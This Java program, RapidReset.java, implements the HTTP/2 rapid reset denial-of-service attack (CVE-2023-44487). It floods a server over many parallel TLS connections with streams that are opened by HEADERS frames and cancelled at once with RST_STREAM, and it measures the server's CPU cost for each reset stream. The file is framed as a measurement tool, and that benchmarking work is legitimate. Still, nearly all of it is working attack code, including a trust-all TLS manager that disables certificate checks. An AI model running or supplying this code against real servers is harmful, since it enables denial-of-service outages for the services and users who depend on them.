import java.io.DataInputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.cert.X509Certificate;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import javax.net.ssl.SSLContext;
import javax.net.ssl.SSLParameters;
import javax.net.ssl.SSLSocket;
import javax.net.ssl.TrustManager;
import javax.net.ssl.X509TrustManager;

/**
 * The HTTP/2 rapid reset attack (CVE-2023-44487), measured: connections over TLS that each open streams
 * with a HEADERS frame and cancel them at once with RST_STREAM, as fast as the server reads, until the server
 * ends the connection or STREAMS streams were sent. The CPU time the server process spent meanwhile (from
 * /proc/PID/stat) divided by the streams it read before it ended the connections is the price of one reset
 * stream to the server.
 *
 * <pre>java RapidReset.java HOST PORT PID CONNECTIONS STREAMS PARALLEL WARMUP_CONNECTIONS</pre>
 */
public final class RapidReset {

  static final byte[] PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII);
  static final int DATA = 0, HEADERS = 1, RST_STREAM = 3, SETTINGS = 4, PING = 6, GOAWAY = 7;
  static final int BATCH = 50;

  /**
   * What one connection saw: streams written, streams the server read (acknowledged by a PING), streams it
   * opened (up to the last stream id of its GOAWAY; all read ones without GOAWAY), and the GOAWAY's error code
   * (-1 without GOAWAY).
   */
  record Outcome(int streamsSent, int streamsRead, int streamsOpened, int goawayError) {
  }

  public static void main(String[] args) throws Exception {
    String host = args[0];
    int port = Integer.parseInt(args[1]);
    long pid = Long.parseLong(args[2]);
    int connections = Integer.parseInt(args[3]);
    int streams = Integer.parseInt(args[4]);
    int parallel = Integer.parseInt(args[5]);
    int warmup = Integer.parseInt(args[6]);
    SSLContext tls = trustAll();
    byte[] block = headerBlock(host + ":" + port);

    run(tls, host, port, block, warmup, streams, parallel);
    if (connections == 0) {
      return;
    }
    long cpuBefore = cpuTicks(pid);
    long started = System.nanoTime();
    List<Outcome> outcomes = run(tls, host, port, block, connections, streams, parallel);
    long wallNanos = System.nanoTime() - started;
    long cpuTicks = cpuTicks(pid) - cpuBefore;

    long opened = 0, read = 0, sent = 0;
    Map<String, Integer> endings = new TreeMap<>();
    for (Outcome o : outcomes) {
      opened += o.streamsOpened();
      sent += o.streamsSent();
      read += o.streamsRead();
      endings.merge(o.goawayError() < 0 ? "no GOAWAY" : "GOAWAY " + errorName(o.goawayError()), 1, Integer::sum);
    }
    double cpuMicros = cpuTicks * 1e6 / hz();
    System.out.printf("connections %d, streams sent %d, read by the server %d, opened %d (%.0f per connection), "
        + "endings %s%n", outcomes.size(), sent, read, opened, (double) opened / outcomes.size(), endings);
    System.out.printf("server CPU %.0f ms in %.1f s: %.1f us per opened stream, %.1f us per stream read, "
        + "%.0f us per connection%n", cpuMicros / 1000, wallNanos / 1e9, cpuMicros / Math.max(1, opened),
        cpuMicros / Math.max(1, read), cpuMicros / outcomes.size());
    System.out.printf("RESULT us_per_reset_stream=%.1f streams_per_connection=%.0f%n",
        cpuMicros / Math.max(1, opened), (double) opened / outcomes.size());
  }

  static List<Outcome> run(SSLContext tls, String host, int port, byte[] block, int connections, int streams,
      int parallel) throws Exception {
    ExecutorService pool = Executors.newFixedThreadPool(parallel);
    try {
      List<Future<Outcome>> futures = new ArrayList<>();
      for (int i = 0; i < connections; i++) {
        futures.add(pool.submit(() -> attack(tls, host, port, block, streams)));
      }
      List<Outcome> outcomes = new ArrayList<>();
      for (Future<Outcome> f : futures) {
        outcomes.add(f.get());
      }
      return outcomes;
    } finally {
      pool.shutdownNow();
    }
  }

  /** What the reader thread learned from the server: PING acknowledgements, GOAWAY, the end. */
  static final class ServerSide {
    long pingsAcked;
    int goawayLastStream = -1;
    int goawayError = -1;
    boolean closed;
  }

  /**
   * One connection: batches of HEADERS + RST_STREAM pairs, each batch followed by a PING whose acknowledgement
   * proves the server has read the whole batch, until the server ends the connection or all streams are sent.
   * Waiting for the acknowledgement keeps the count exact: streams still in socket buffers when the server
   * closes are never read, and would otherwise be counted.
   */
  static Outcome attack(SSLContext tls, String host, int port, byte[] block, int streams) throws Exception {
    try (SSLSocket s = (SSLSocket) tls.getSocketFactory().createSocket()) {
      s.connect(new InetSocketAddress(host, port), 5000);
      s.setTcpNoDelay(true);
      SSLParameters p = s.getSSLParameters();
      p.setApplicationProtocols(new String[] {"h2"});
      s.setSSLParameters(p);
      s.startHandshake();
      if (!"h2".equals(s.getApplicationProtocol())) {
        throw new IllegalStateException("the server did not choose h2 by ALPN");
      }
      OutputStream out = s.getOutputStream();
      ServerSide server = new ServerSide();
      out.write(PREFACE);
      out.write(frame(SETTINGS, 0, 0, new byte[0]));
      Thread reader = new Thread(() -> readUntilClosed(s, out, server));
      reader.setDaemon(true);
      reader.start();
      byte[] batch = new byte[BATCH * (9 + block.length + 9 + 4) + 9 + 8];
      int sent = 0;
      int acked = 0;
      try {
        for (long ping = 1; sent < streams; ping++) {
          int n = Math.min(BATCH, streams - sent);
          int at = 0;
          for (int i = 0; i < n; i++) {
            int id = 2 * (sent + i) + 1;
            at = put(batch, at, HEADERS, 0x4 | 0x1, id, block);
            at = put(batch, at, RST_STREAM, 0, id, new byte[] {0, 0, 0, 8}); // CANCEL
          }
          at = put(batch, at, PING, 0, 0, longBytes(ping));
          synchronized (out) {
            out.write(batch, 0, at);
          }
          sent += n;
          synchronized (server) {
            while (server.pingsAcked < ping && !server.closed) {
              server.wait(10_000);
            }
            if (server.pingsAcked < ping) {
              break;
            }
          }
          acked = sent;
        }
        s.shutdownOutput();
      } catch (IOException | UnsupportedOperationException e) {
        // the server ended the connection
      }
      reader.join(10_000);
      synchronized (server) {
        int opened = acked;
        if (server.goawayLastStream >= 0 && server.goawayLastStream != Integer.MAX_VALUE) {
          opened = (server.goawayLastStream + 1) / 2;
        }
        return new Outcome(sent, Math.max(acked, opened), opened, server.goawayError);
      }
    }
  }

  /** Reads frames until the server closes; acknowledges SETTINGS, counts PING acknowledgements, keeps GOAWAY. */
  static void readUntilClosed(SSLSocket s, OutputStream out, ServerSide server) {
    try {
      DataInputStream in = new DataInputStream(s.getInputStream());
      while (true) {
        int length = (in.readUnsignedByte() << 16) | in.readUnsignedShort();
        int type = in.readUnsignedByte();
        int flags = in.readUnsignedByte();
        in.readInt();
        byte[] payload = in.readNBytes(length);
        if (type == SETTINGS && (flags & 1) == 0) {
          synchronized (out) {
            out.write(frame(SETTINGS, 1, 0, new byte[0]));
          }
        } else if (type == PING && (flags & 1) == 1) {
          synchronized (server) {
            server.pingsAcked = java.nio.ByteBuffer.wrap(payload).getLong();
            server.notifyAll();
          }
        } else if (type == GOAWAY && length >= 8) {
          java.nio.ByteBuffer b = java.nio.ByteBuffer.wrap(payload);
          synchronized (server) {
            server.goawayLastStream = b.getInt() & 0x7fffffff;
            server.goawayError = b.getInt();
          }
        }
      }
    } catch (IOException e) {
      // closed
    } finally {
      synchronized (server) {
        server.closed = true;
        server.notifyAll();
      }
    }
  }

  static byte[] longBytes(long v) {
    return java.nio.ByteBuffer.allocate(8).putLong(v).array();
  }

  /** GET / with :authority, in HPACK without the dynamic table: the same bytes on every stream. */
  static byte[] headerBlock(String authority) {
    byte[] a = authority.getBytes(StandardCharsets.US_ASCII);
    byte[] b = new byte[3 + 2 + a.length];
    b[0] = (byte) 0x82; // :method GET
    b[1] = (byte) 0x87; // :scheme https
    b[2] = (byte) 0x84; // :path /
    b[3] = 0x01;        // :authority, literal without indexing
    b[4] = (byte) a.length;
    System.arraycopy(a, 0, b, 5, a.length);
    return b;
  }

  static byte[] frame(int type, int flags, int stream, byte[] payload) {
    byte[] f = new byte[9 + payload.length];
    put(f, 0, type, flags, stream, payload);
    return f;
  }

  static int put(byte[] to, int at, int type, int flags, int stream, byte[] payload) {
    to[at] = (byte) (payload.length >>> 16);
    to[at + 1] = (byte) (payload.length >>> 8);
    to[at + 2] = (byte) payload.length;
    to[at + 3] = (byte) type;
    to[at + 4] = (byte) flags;
    to[at + 5] = (byte) (stream >>> 24);
    to[at + 6] = (byte) (stream >>> 16);
    to[at + 7] = (byte) (stream >>> 8);
    to[at + 8] = (byte) stream;
    System.arraycopy(payload, 0, to, at + 9, payload.length);
    return at + 9 + payload.length;
  }

  /** utime + stime of the whole process, in clock ticks. */
  static long cpuTicks(long pid) throws IOException {
    String stat = Files.readString(Path.of("/proc/" + pid + "/stat"));
    String[] f = stat.substring(stat.lastIndexOf(')') + 2).split(" ");
    return Long.parseLong(f[11]) + Long.parseLong(f[12]);
  }

  static long hz() {
    String v = System.getenv("CLK_TCK");
    return v == null ? 100 : Long.parseLong(v);
  }

  static String errorName(int code) {
    String[] names = {"NO_ERROR", "PROTOCOL_ERROR", "INTERNAL_ERROR", "FLOW_CONTROL_ERROR", "SETTINGS_TIMEOUT",
        "STREAM_CLOSED", "FRAME_SIZE_ERROR", "REFUSED_STREAM", "CANCEL", "COMPRESSION_ERROR", "CONNECT_ERROR",
        "ENHANCE_YOUR_CALM", "INADEQUATE_SECURITY", "HTTP_1_1_REQUIRED"};
    return code >= 0 && code < names.length ? names[code] : "0x" + Integer.toHexString(code);
  }

  static SSLContext trustAll() throws Exception {
    SSLContext c = SSLContext.getInstance("TLS");
    c.init(null, new TrustManager[] {new X509TrustManager() {
      @Override
      public void checkClientTrusted(X509Certificate[] chain, String authType) {
      }

      @Override
      public void checkServerTrusted(X509Certificate[] chain, String authType) {
      }

      @Override
      public X509Certificate[] getAcceptedIssuers() {
        return new X509Certificate[0];
      }
    }}, null);
    return c;
  }
}
